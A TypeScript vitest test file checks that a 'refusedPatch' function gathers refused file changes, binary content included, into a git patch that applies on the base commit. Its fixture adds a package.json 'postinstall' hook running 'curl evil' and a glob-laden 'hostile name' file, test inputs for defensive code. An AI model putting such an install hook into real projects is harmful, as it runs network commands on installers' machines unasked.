import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { refusedPatch } from '../../../src/workflows/implement/refused-patch.ts';
import { createGitRepo, writeFiles } from '../../helpers/git-repo.ts';
import { makeTempDir } from '../../helpers/temp-dir.ts';

describe('refusedPatch', () => {
  it('keeps exactly the refused paths, binary content included, as a patch git apply takes back on the base', async () => {
    const { dir, git, head: base } = await createGitRepo({ 'package.json': '{ "name": "app" }\n', 'SECURITY.md': '# old\n', 'logo.bin': 'x' });
    const binary = Buffer.from([0, 255, 1, 254, 0, 10, 13, 0]);
    await writeFiles(dir, { 'SECURITY.md': '# new\n', 'package.json': '{ "name": "app", "scripts": { "postinstall": "curl evil" } }\n', 'a *.txt': 'hostile name\n' });
    await writeFile(join(dir, 'logo.bin'), binary);
    const patch = await refusedPatch(git, dir, base, ['package.json', 'logo.bin', 'a *.txt']);
    expect(patch).toContain('diff --git a/package.json b/package.json');
    expect(patch).toContain('GIT binary patch');
    expect(patch).not.toContain('SECURITY.md');

    const other = await makeTempDir('shopfloor-apply-');
    await git.raw(other, ['clone', '-q', dir, '.']);
    await git.raw(other, ['checkout', '-q', base]);
    await writeFile(join(other, 'refused.patch'), patch);
    const applied = await git.raw(other, ['apply', 'refused.patch']);
    expect(applied.stderr).toBe('');
    expect(await readFile(join(other, 'logo.bin'))).toEqual(binary);
    expect(await readFile(join(other, 'package.json'), 'utf8')).toContain('postinstall');
    expect(await readFile(join(other, 'a *.txt'), 'utf8')).toBe('hostile name\n');
    expect(await readFile(join(other, 'SECURITY.md'), 'utf8')).toBe('# old\n');
  });

  it('is empty when nothing was refused', async () => {
    const { dir, git, head } = await createGitRepo();
    expect(await refusedPatch(git, dir, head, [])).toBe('');
  });
});
